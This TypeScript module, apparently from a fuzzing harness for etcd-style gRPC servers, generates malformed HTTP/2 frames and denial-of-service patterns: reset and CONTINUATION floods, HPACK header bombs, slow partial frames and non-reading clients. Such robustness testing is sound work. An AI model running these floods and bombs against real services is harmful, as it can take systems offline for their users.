/**
 * HTTP/2 and gRPC: frames in and out of order, floods of cheap frames, bombs of headers, and
 * messages of every method that are right, odd or broken.
 */

import { gzipSync } from 'node:zlib';
import type { Prng } from '../compat/random.ts';
import type { Attack, AttackContext } from './attack.ts';
import { grpcMessage, mutate, noise } from './messages.ts';
import { type Door, pause, Wire } from './wire.ts';

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RESET = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;
const NO_BYTES = Buffer.alloc(0);
const FLOOD_FRAMES = 20_000;
const FRAMES_PER_WRITE = 500;

export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, payload]);
}

export const settings = frame(SETTINGS, 0, 0, NO_BYTES);

/** A field that is neither indexed nor compressed. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length: number[] = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

function head(path: string, more: readonly (readonly [string, string])[] = []): Buffer {
  const fields = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'fuzz'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...more,
  ] as const;
  return Buffer.concat(fields.map(([name, value]) => field(name, value)));
}

async function open(door: Door): Promise<Wire | null> {
  const wire = new Wire(door, ['h2']);
  if (!(await wire.opened)) return null;
  await wire.send(Buffer.concat([PREFACE, settings]));
  return wire;
}

/** Frames of all types with any flags, streams and lengths. */
export const frames: Attack = async ({ random, client, messages, corpus }) => {
  const wire = new Wire(client, ['h2']);
  if (!(await wire.opened)) return 0;
  const known = corpus.get('http2') ?? [];
  let sent = 0;
  if (known.length > 0 && random.chance(30)) {
    await wire.send(mutate(random, random.pick(known), 6));
    sent++;
  } else {
    await wire.send(random.chance(5) ? mutate(random, PREFACE) : PREFACE);
    if (!random.chance(5)) await wire.send(settings);
  }
  for (let i = 0, stream = 1; i < 40 && !wire.socket.destroyed; i++) {
    if (random.chance(40)) stream += 2;
    const { path, request } = random.pick(messages.methods);
    const bytes = random.weighted({ call: 4, odd: 4, noise: 1 });
    if (bytes === 'call') {
      const message = grpcMessage(messages.wire(random, request));
      await wire.send(frame(HEADERS, END_HEADERS, stream, head(path)));
      await wire.send(frame(DATA, END_STREAM, stream, message.subarray(0, 16_384)));
    } else if (bytes === 'odd') {
      await wire.send(oddFrame(random, stream));
    } else {
      await wire.send(noise(random, random.below(200)));
    }
    sent++;
  }
  await wire.heard(20);
  wire.end();
  return sent;
};

function oddFrame(random: Prng, stream: number): Buffer {
  const type = random.below(11);
  const payload = random.weighted({ none: 2, some: 5, headers: 3, much: 1 });
  const lengths = { none: 0, some: random.below(40), headers: 0, much: 16_384 + random.below(2) };
  const bytes =
    payload === 'headers'
      ? mutate(random, head('/etcdserverpb.KV/Range'))
      : noise(random, lengths[payload]);
  const at = random.pick([0, stream, stream, stream, stream - 2, 2, 0x7fffffff, 0xffffffff]);
  const made = frame(type, random.pick([0, 1, 4, 5, 8, 0x20, 0x2d, 0xff]), Math.max(0, at), bytes);
  return random.chance(10) ? mutate(random, made) : made;
}

/** Right messages of every method, and such with bytes changed, many streams to a connection. */
export const grpc: Attack = async ({ random, client, messages }) => {
  const wire = await open(client);
  if (wire === null) return 0;
  let sent = 0;
  for (let stream = 1; stream < 120 && !wire.socket.destroyed; stream += 2) {
    const method = random.pick(messages.methods);
    const good = messages.wire(random, method.request, random.pick([0, 5, 30]));
    const message = random.chance(30) ? mutate(random, good) : good;
    const isZipped = random.chance(5);
    const bytes = isZipped ? gzipSync(message) : message;
    const framed = random.chance(4)
      ? grpcMessage(bytes, random.below(4), random.pick([0, 1, 2 ** 31, 2 ** 32 - 1]))
      : grpcMessage(bytes, isZipped ? 1 : 0);
    const more = oddMetadata(random);
    if (isZipped) more.push(['grpc-encoding', 'gzip']);
    await wire.send(frame(HEADERS, END_HEADERS, stream, head(method.path, more)));
    await wire.send(inData(stream, framed, !method.client_streaming || random.chance(50)));
    if (random.chance(15)) await wire.send(frame(RESET, 0, stream, Buffer.from([0, 0, 0, 8])));
    sent++;
    if (stream % 20 === 1) await wire.heard(20);
  }
  await wire.heard(50);
  wire.end();
  return sent;
};

function oddMetadata(random: Prng): [string, string][] {
  if (!random.chance(15)) return [];
  return [
    random.pick<[string, string]>([
      ['token', 'nobody.17'],
      ['authorization', 'Bearer x.y.z'],
      ['grpc-timeout', '1n'],
      ['grpc-timeout', '99999999H'],
      ['grpc-timeout', 'soon'],
      ['hasleader', 'true'],
      ['key-bin', '====='],
      ['traceparent', '00-zz-00-01'],
      ['content-type', 'text/plain'],
      ['Upper', 'case'],
      ['x', 'y'.repeat(9000)],
    ]),
  ];
}

function inData(stream: number, bytes: Buffer, isLast: boolean): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at === 0 || at < bytes.length; at += 16_384) {
    const end = Math.min(at + 16_384, bytes.length);
    const flags = isLast && end === bytes.length ? END_STREAM : 0;
    parts.push(frame(DATA, flags, stream, bytes.subarray(at, end)));
  }
  return Buffer.concat(parts);
}

type Flood = (i: number) => Buffer;
const path = '/etcdserverpb.KV/Range';
const oneReset = Buffer.from([0, 0, 0, 8]);
const FLOODS: Readonly<Record<string, Flood>> = {
  resets: (i) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS, 2 * i + 1, head(path)),
      frame(RESET, 0, 2 * i + 1, oneReset),
    ]),
  madeResets: (i) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS, 2 * i + 1, head(path)),
      frame(WINDOW_UPDATE, 0, 2 * i + 1, Buffer.alloc(4)),
    ]),
  settings: () => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
  windows: (i) => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, i & 0xff])),
  pings: (i) => frame(PING, 0, 0, Buffer.alloc(8, i)),
  acks: () => frame(PING, 1, 0, Buffer.alloc(8)),
  emptyData: (i) =>
    i === 0 ? frame(HEADERS, END_HEADERS, 1, head(path)) : frame(DATA, 0, 1, NO_BYTES),
  priorities: (i) => frame(PRIORITY, 0, 2 * i + 1, Buffer.alloc(5)),
  credits: () => frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])),
  continuations: (i) =>
    i === 0 ? frame(HEADERS, 0, 1, head(path)) : frame(CONTINUATION, 0, 1, NO_BYTES),
  bigContinuations: (i) =>
    frame(i === 0 ? HEADERS : CONTINUATION, 0, 1, field('x', 'y'.repeat(16_000))),
  unknown: (i) => frame(200, 0, i, Buffer.alloc(100)),
  openCalls: (i) => frame(HEADERS, END_HEADERS, 2 * i + 1, head(path)),
  halfMessages: (i) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS, 2 * i + 1, head('/etcdserverpb.KV/Put')),
      frame(DATA, 0, 2 * i + 1, grpcMessage(Buffer.alloc(1000), 0, 1_000_000)),
    ]),
  watches: (i) =>
    Buffer.concat([
      frame(HEADERS, END_HEADERS, 2 * i + 1, head('/etcdserverpb.Watch/Watch')),
      frame(DATA, 0, 2 * i + 1, grpcMessage(Buffer.from([0x0a, 3, 0x0a, 1, 0x61]))),
    ]),
};

/** Very many frames of one kind on one connection, whose answers may not be read. */
export const floods: Attack = async ({ random, client }) => {
  const wire = await open(client);
  if (wire === null) return 0;
  const flood = FLOODS[random.pick(Object.keys(FLOODS))] as Flood;
  const isDeaf = random.chance(30);
  if (isDeaf) wire.socket.pause();
  let sent = 0;
  while (sent < FLOOD_FRAMES && wire.socket.writable) {
    const batch: Buffer[] = [];
    for (let i = 0; i < FRAMES_PER_WRITE; i++) batch.push(flood(sent++));
    await wire.send(Buffer.concat(batch));
    await pause(5);
  }
  await pause(isDeaf ? 1000 : 100);
  wire.end();
  return sent;
};

/** Small bytes that become large: tables that are filled and then named again and again. */
export const headerBombs: Attack = async ({ random, client }) => {
  const wire = await open(client);
  if (wire === null) return 0;
  const size = random.pick([100, 1000, 3900, 4000]);
  const indexed = Buffer.concat([Buffer.from([0x40]), text('bomb'), text('x'.repeat(size))]);
  const bomb = Buffer.concat([head(path), indexed, Buffer.alloc(16_000 - size, 0xbe)]);
  const resize = Buffer.from([0x3f, 0xe1, 0xff, 0xff, 0x0f]);
  let sent = 0;
  for (let stream = 1; stream < 40 && wire.socket.writable; stream += 2) {
    const block = random.weighted({ bomb: 5, resize: 1, huffman: 2, number: 1 });
    const bytes = {
      bomb,
      resize: Buffer.concat([resize, head(path)]),
      huffman: Buffer.concat([
        head(path),
        Buffer.from([0, 1, 0x78, 0xff, 0x80, 0x7e]),
        noise(random, 8000),
      ]),
      number: Buffer.concat([head(path), Buffer.alloc(300, 0xff)]),
    }[block];
    await wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bytes));
    sent++;
  }
  await wire.heard(50);
  wire.end();
  return sent;
};

/** Asks for large answers, gives no credit or does not read, and stays. */
export const deafReaders: Attack = async (context) => {
  const wires: Wire[] = [];
  for (let i = 0; i < 8; i++) {
    const wire = await deafReader(context);
    if (wire !== null) wires.push(wire);
  }
  await pause(500);
  for (const wire of wires) wire.end();
  return wires.length * 100;
};

async function deafReader({ random, client }: AttackContext): Promise<Wire | null> {
  const wire = await open(client);
  if (wire === null) return null;
  if (random.chance(50)) wire.socket.pause();
  else await wire.send(frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])));
  const everything = grpcMessage(Buffer.from([0x0a, 1, 0, 0x12, 1, 0]));
  for (let stream = 1; stream < 200; stream += 2) {
    await wire.send(frame(HEADERS, END_HEADERS, stream, head(path)));
    await wire.send(frame(DATA, END_STREAM, stream, everything));
  }
  return wire;
}

/** Speaks HTTP/2 a byte at a time, or begins a frame and never ends it. */
export const slowFrames: Attack = async ({ random, client }) => {
  const wires = Array.from({ length: 20 }, () => new Wire(client, ['h2']));
  const bytes = Buffer.concat([PREFACE, settings, frame(HEADERS, END_HEADERS, 1, head(path))]);
  await Promise.all(wires.map(({ opened }) => opened));
  const stopAt = random.below(bytes.length);
  for (let at = 0; at < stopAt; at += 4) {
    for (const wire of wires) await wire.send(bytes.subarray(at, at + 4));
    if (at % 32 === 0) await pause(10);
  }
  for (const wire of wires) wire.end();
  return wires.length;
};
